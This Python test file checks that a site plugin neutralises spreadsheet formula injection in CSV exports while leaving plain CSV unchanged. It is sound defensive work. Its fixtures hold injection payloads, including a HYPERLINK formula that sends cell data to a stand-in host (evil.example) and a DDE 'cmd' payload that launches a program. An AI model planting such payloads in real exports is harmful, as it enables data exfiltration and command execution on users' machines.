"""loader/site/plugins/csv_bom.py: the spreadsheet CSV (`_bom=on`) runs no formula; the plain CSV is left as it was."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import re
import sqlite3
from contextlib import closing
from pathlib import Path

from loader.build.database import build
from loader.site.plugins import csv_bom
from tests.support.site import in_process_site, page_text

BOM = "\ufeff"

# Cells a spreadsheet would run, cells it reads as numbers, and text around them.
CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "-",
    "-3",
    "+1.5",
    "-2e3",
    "-.5",
    'two\nlines, =1+1 and "quotes"',
    "=two\r\nlines",
    "Erdoğan, دمشق",
    "x\x1cy\u2028z",
    "plain",
    "'already quoted",
    '["Government of Israel","Syrian transitional government"]',
    '["=evil","x"]',
    "[No headline in the archived copy]",
    '{"title": "a popup", "link": "/events/events/x"}',
    "[]",
]
NEUTRALISED = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "-": "'-",
    "=two\r\nlines": "'=two\r\nlines",
    "=label": "'=label",  # a column's name is a cell too
    # A list is its items in words; then neutralised as any cell.
    '["Government of Israel","Syrian transitional government"]': "Government of Israel; Syrian transitional government",
    '["=evil","x"]': "'=evil; x",
    "[]": "",
}


def sheet_db(tmp_path: Path) -> Path:
    """A table of CELLS beside numbers (negative ones too), and a view of it."""
    db = tmp_path / "sheet.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE cells (id INTEGER PRIMARY KEY, text TEXT, number REAL)")
    conn.executemany("INSERT INTO cells (text, number) VALUES (?, ?)", [(c, -i / 4) for i, c in enumerate(CELLS)])
    conn.execute("CREATE VIEW formulas AS SELECT text AS [=label], number FROM cells")
    conn.commit()
    conn.close()
    return db


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def get(db: Path, path: str) -> tuple[int, str]:
    async def fetch() -> tuple[int, str]:
        response = await in_process_site(db).client.get(path)
        return response.status_code, response.content.decode("utf-8")

    return asyncio.run(fetch())


def test_the_neutralised_cells_are_those_a_spreadsheet_would_run() -> None:
    """A leading quote for = + - @ tab and CR, except on a cell that is only a number."""
    assert {cell: csv_bom.neutralised(cell) for cell in CELLS} == {cell: NEUTRALISED.get(cell, cell) for cell in CELLS}


def test_records_come_out_whole_wherever_the_body_is_cut() -> None:
    """Quoted cells hold line breaks and a character is several bytes: cut
    the body at every byte (and a second cut three bytes on), and every record
    still comes out once, neutralised, and the untouched ones byte for byte."""
    out = io.StringIO()
    csv.writer(out).writerows([["id", "text"], *([str(i), cell] for i, cell in enumerate(CELLS))])
    body = out.getvalue().encode("utf-8")
    expected = [["id", "text"], *([str(i), NEUTRALISED.get(cell, cell)] for i, cell in enumerate(CELLS))]
    for cut in range(len(body) + 1):
        for second in (cut, min(cut + 3, len(body))):
            neutraliser = csv_bom.Neutraliser()
            text = b"".join(
                [neutraliser.feed(body[:cut]), neutraliser.feed(body[cut:second]), neutraliser.feed(b"", False)]
                + [neutraliser.feed(body[second:], final=True)]
            ).decode("utf-8")
            assert rows_of(text) == expected, cut
    whole = csv_bom.Neutraliser().feed(body, final=True).decode("utf-8")
    for i, cell in enumerate(CELLS):
        record = io.StringIO()
        csv.writer(record).writerow([str(i), cell])
        assert (record.getvalue() in whole) == (cell not in NEUTRALISED), cell


def test_every_spreadsheet_csv_neutralises_and_the_plain_csv_stays_as_it_was(tmp_path: Path) -> None:
    """Datasette's CSV of a table, of its stream, of a query and of a view,
    and /-/csv's of a table and a view: with `_bom=on` no cell a spreadsheet
    would run, read back by the csv module; without it, every cell as stored."""
    db = sheet_db(tmp_path)
    table = [["id", "text", "number"], *([str(i + 1), cell, str(-i / 4)] for i, cell in enumerate(CELLS))]
    view = [["=label", "number"], *([cell, str(-i / 4)] for i, cell in enumerate(CELLS))]
    for path, stored in [
        ("/sheet/cells.csv?_size=max", table),
        ("/sheet/cells.csv?_stream=on", table),
        ("/sheet.csv?sql=select+*+from+cells", table),
        ("/sheet/formulas.csv?_size=max", view),
        ("/-/csv/sheet/cells.csv", table),
        ("/-/csv/sheet/formulas.csv", view),
    ]:
        status, plain = get(db, path)
        assert status == 200 and rows_of(plain) == stored, path
        status, sheet = get(db, f"{path}{'&' if '?' in path else '?'}_bom=on")
        assert status == 200 and sheet.startswith(BOM), path
        assert rows_of(sheet[1:]) == [[NEUTRALISED.get(cell, cell) for cell in row] for row in stored], path


def test_the_pages_csv_for_excel_link_neutralises_the_records(sources: Path, tmp_path: Path) -> None:
    """The "CSV for Excel" link of the event list, as a reader follows it,
    with an event whose title and summary are formulas; the whole-table
    /-/csv link beside it stays the machine-readable file, as stored."""
    db = tmp_path / "events.db"
    build(sources, db)
    conn = sqlite3.connect(db)
    title, summary = '=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)"
    (event,) = conn.execute("SELECT id FROM events ORDER BY rowid LIMIT 1").fetchone()
    conn.execute("UPDATE events SET title = ?, summary = ? WHERE id = ?", [title, summary, event])
    conn.commit()
    conn.close()
    page = page_text(in_process_site(db), "/events/event_list")
    (link,) = re.findall(r'<a href="([^"]+)">CSV for Excel</a>', page)
    status, sheet = get(db, html.unescape(link))
    assert status == 200 and sheet.startswith(BOM)
    cells = {cell for row in rows_of(sheet[1:]) for cell in row}
    assert "'" + title in cells and "'" + summary in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    # Lists of actors read as names, not JSON; the view keeps its JSON for programs.
    records = list(csv.DictReader(io.StringIO(sheet[1:])))
    with closing(sqlite3.connect(db)) as conn:
        stored = dict(conn.execute("SELECT id, actor_names FROM event_list"))
    assert records and all(r["actor_names"] == "; ".join(json.loads(stored[r["id"]])) for r in records)
    assert any("; " in r["actor_names"] for r in records)
    (whole,) = re.findall(r'<a href="(/-/csv/[^"?]+)">', page)
    status, plain = get(db, html.unescape(whole))
    assert status == 200 and {title, summary} <= {cell for row in rows_of(plain) for cell in row}
